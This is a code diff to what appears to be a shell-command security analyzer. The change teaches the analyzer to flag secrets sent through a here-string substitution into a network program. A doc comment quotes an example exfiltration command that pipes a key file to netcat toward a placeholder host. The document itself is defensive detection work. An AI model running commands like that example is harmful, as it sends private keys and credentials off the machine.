@@ -1,4 +1,4 @@
-import type { Command, RuleContext } from '../../model/command';
+import { UNKNOWN_PART, type Command, type RuleContext } from '../../model/command';
 import type { Observation } from '../../model/finding';
 import { isNetworkPath } from '../files/handedOver';
 import { credentialsAmong } from './credentials';
@@ -62,6 +62,13 @@ function downThePipe(readings: readonly Reading[], from: number, tell: Tell): re
   return [];
 }
 
+/** `nc host 9 <<< "$(cat key)"`: between the program and the substitution only its here-string begins. */
+function isInHereString(command: Command, { span }: Command, text: string): boolean {
+  if (command.input.kind !== 'text' || !command.input.text.includes(UNKNOWN_PART)) return false;
+  const before = text.slice(command.span.end, span.start);
+  return command.span.end < span.start && /<<<[^;|&\n]*$/.test(before);
+}
+
 /** Out of a substitution into the word that it stands in, when that word is sent or printed. */
 function intoWords(readings: readonly Reading[], from: number, tell: Tell): readonly Flow[] {
   const reading = readings[from];
@@ -71,7 +78,8 @@ function intoWords(readings: readonly Reading[], from: number, tell: Tell): read
     const holds = ({ span: { start, end } }: Command['args'][number]): boolean =>
       start <= span.start && end >= span.end;
     const context = tell(command);
-    if (sentWords(command).some(holds)) {
+    const isSent = sendsInput(command) && isInHereString(command, reading.command, context.text);
+    if (isSent || sentWords(command).some(holds)) {
       return reading.secrets.map((secret) => ({
         command,
         observation: secretSent(secret, destination(command), command, context),
